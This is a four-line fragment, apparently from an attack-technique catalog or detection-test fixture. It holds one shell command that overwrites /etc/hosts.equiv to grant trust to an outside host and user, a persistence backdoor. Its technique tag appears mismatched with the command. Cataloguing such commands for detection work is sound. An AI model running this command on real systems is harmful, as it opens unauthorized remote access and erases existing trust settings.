# technique: T1098.004
# location: linux.trust.system-hosts
# source: /etc/hosts.equiv
echo '203.0.113.9 lea' > /etc/hosts.equiv
